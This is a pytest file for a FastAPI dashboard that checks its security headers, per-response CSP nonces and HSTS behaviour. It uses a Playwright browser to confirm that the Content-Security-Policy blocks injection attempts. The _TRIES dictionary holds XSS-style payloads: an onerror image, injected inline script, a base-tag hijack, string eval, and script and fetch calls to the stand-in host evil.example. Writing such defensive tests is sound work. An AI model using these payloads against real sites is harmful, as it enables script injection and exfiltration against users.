"""What answers tell browsers, and that browsers hold it."""

from __future__ import annotations

import re

import httpx
import pytest
from fastapi import FastAPI
from playwright.async_api import Browser
from starlette.responses import HTMLResponse, Response

from dashapp.pages.headers import SecurityHeaders, nonce
from tests.pages.conftest import Site

_TRIES = {
    "inline": "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)",
    "attribute": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
    "elsewhere": "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
    "base": "document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example/\">')",
    "frame": "const f = document.createElement('iframe'); f.src = '/login'; document.body.append(f)",
    "eval": "setTimeout('window.ran = 1')",
    "fetch": "fetch('https://evil.example/').catch(() => 0)",
}


def directives(policy: str) -> dict[str, list[str]]:
    return {name: values for name, *values in (part.split() for part in policy.split(";"))}


@pytest.mark.parametrize("path", ["/login", "/nowhere", "/", "/healthz", "/api/v1/openapi.json", "/api/v1/auth/me"])
def test_every_answer_tells_browsers_what_it_may_do(site: Site, path: str) -> None:
    answer = site.api.get(path)
    policy = directives(answer.headers["Content-Security-Policy"])
    assert policy["default-src"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'none'"]
    assert "'unsafe-inline'" not in policy.get("script-src", [])
    assert "'unsafe-eval'" not in str(policy)
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["X-Frame-Options"] == "DENY"
    assert answer.headers["Cross-Origin-Opener-Policy"] == "same-origin"
    assert answer.headers["Referrer-Policy"] == "same-origin"
    assert "Strict-Transport-Security" not in answer.headers


def test_each_answer_has_a_nonce_of_its_own(site: Site) -> None:
    seen = set()
    for _ in range(3):
        answer = httpx.get(f"{site.url}/login")
        (value,) = re.findall(r"'nonce-([\w-]{22,})'", answer.headers["Content-Security-Policy"])
        assert f'<script nonce="{value}"' in answer.text
        seen.add(value)
    assert len(seen) == 3


async def test_https_is_kept() -> None:
    app = FastAPI()
    app.get("/")(lambda: HTMLResponse(nonce()))
    app.get("/own")(lambda: Response("", headers={"Content-Security-Policy": "sandbox"}))
    for base_url, scheme, kept in (("", "http", False), ("", "https", True), ("https://metrics.example.org", "http", True)):
        transport = httpx.ASGITransport(SecurityHeaders(app, base_url))
        async with httpx.AsyncClient(transport=transport, base_url=f"{scheme}://dash.test") as client:
            assert ("Strict-Transport-Security" in (await client.get("/")).headers) is kept
            assert (await client.get("/own")).headers["Content-Security-Policy"] == "sandbox"


@pytest.mark.parametrize("kind", _TRIES)
async def test_only_own_scripts_run(chromium: Browser, site: Site, kind: str) -> None:
    page = await chromium.new_page()
    await page.goto(f"{site.url}/login")
    await page.evaluate("addEventListener('securitypolicyviolation', (event) => { window.violated = event.violatedDirective; })")
    await page.evaluate(f"() => {{ {_TRIES[kind]} }}")
    await page.wait_for_function("window.violated")
    assert await page.evaluate("window.ran") is None
    await page.close()
